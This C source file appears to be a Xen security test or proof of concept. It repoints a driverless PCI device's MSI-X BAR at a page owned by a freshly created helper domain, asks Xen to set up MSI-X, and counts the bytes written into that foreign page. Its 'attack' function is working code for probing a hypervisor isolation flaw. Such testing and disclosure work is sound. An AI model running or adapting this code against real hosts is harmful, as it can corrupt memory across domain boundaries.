/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * rawmsix DEVICE: has Xen set up MSI-X of a device without driver, such as
 * 0000:00:03.0, whose BAR names a page of another domain: "RC ERRNO, N bytes
 * written" into that page.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include <xenctrl.h>
#include <xenforeignmemory.h>

#define PAGE    4096
#define FILLER  0xa5
#define COMMAND 4
#define BAR     0x10
#define MSIX    0x11            /* capability */

static int config = -1;

static uint32_t get(unsigned int reg, size_t len)
{
    uint32_t v = 0;

    if ( pread(config, &v, len, reg) != (ssize_t)len )
        exit(2);

    return v;
}

static void put(unsigned int reg, uint32_t v, size_t len)
{
    if ( pwrite(config, &v, len, reg) != (ssize_t)len )
        exit(2);
}

static unsigned int find_msix(void)
{
    unsigned int at = get(0x34, 1), i;

    for ( i = 0; i < 48 && at; i++, at = get(at + 1, 1) )
        if ( get(at, 1) == MSIX )
            return at;

    return 0;
}

/* A domain with one page. */
static int create(xc_interface *xc, uint32_t *domid, xen_pfn_t *frame)
{
    struct xen_domctl_createdomain c = {
        .max_vcpus = 1, .max_evtchn_port = 63, .max_grant_frames = 4,
        .max_maptrack_frames = 4, .grant_opts = XEN_DOMCTL_GRANT_version(1),
    };

    *frame = 0;
    if ( xc_domain_create(xc, domid, &c) ||
         xc_domain_setmaxmem(xc, *domid, 1024) )
        return -1;

    return xc_domain_populate_physmap_exact(xc, *domid, 1, 0, 0, frame);
}

static int written(const volatile uint8_t *page)
{
    int i, n = 0;

    for ( i = 0; i < PAGE; i++ )
        n += page[i] != FILLER;

    return n;
}

/* The device is as it was afterwards. */
static void attack(xc_interface *xc, const char *device, xen_pfn_t frame,
                   const uint8_t *page)
{
    unsigned int domain, bus, slot, func, msix = find_msix(), bar, command;
    int rc, err, pirq = -1;
    uint32_t low, high = 0;

    if ( !msix ||
         sscanf(device, "%x:%x:%x.%x", &domain, &bus, &slot, &func) != 4 )
    {
        fprintf(stderr, "rawmsix: %s: no MSI-X\n", device);
        exit(2);
    }
    bar = BAR + (get(msix + 4, 4) & 7) * 4;
    low = get(bar, 4);
    command = get(COMMAND, 2);
    put(bar, (uint32_t)frame << 12 | (low & 15), 4);
    if ( low & 4 )
    {
        high = get(bar + 4, 4);
        put(bar + 4, (uint32_t)(frame >> 20), 4);
    }
    put(COMMAND, command | 2, 2);

    rc = xc_physdev_map_pirq_msi(xc, 0, -1, &pirq, (int)(slot << 3 | func),
                                 (int)bus, 0, frame << 12);
    err = errno;
    printf("%d %s, %d bytes written\n", rc, rc ? strerrorname_np(err) : "0",
           written(page));
    if ( !rc )
        xc_physdev_unmap_pirq(xc, 0, pirq);

    put(COMMAND, command, 2);
    put(bar, low, 4);
    if ( low & 4 )
        put(bar + 4, high, 4);
}

int main(int argc, char **argv)
{
    xc_interface *xc = xc_interface_open(NULL, NULL, 0);
    xenforeignmemory_handle *fmem = xenforeignmemory_open(NULL, 0);
    uint32_t domid = 0;
    xen_pfn_t frame;
    char path[80];
    int err = 0;
    void *p;

    if ( argc != 2 || !xc || !fmem )
        return 2;
    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", argv[1]);
    config = open(path, O_RDWR);
    if ( config < 0 )
    {
        perror(path);
        return 2;
    }
    if ( create(xc, &domid, &frame) ||
         !(p = xenforeignmemory_map(fmem, domid, PROT_READ | PROT_WRITE, 1,
                                    &frame, &err)) || err )
        perror("rawmsix: helper");
    else
    {
        memset(p, FILLER, PAGE);
        attack(xc, argv[1], frame, p);
        xenforeignmemory_unmap(fmem, p, 1);
    }
    if ( domid )
        xc_domain_destroy(xc, domid);

    return 0;
}
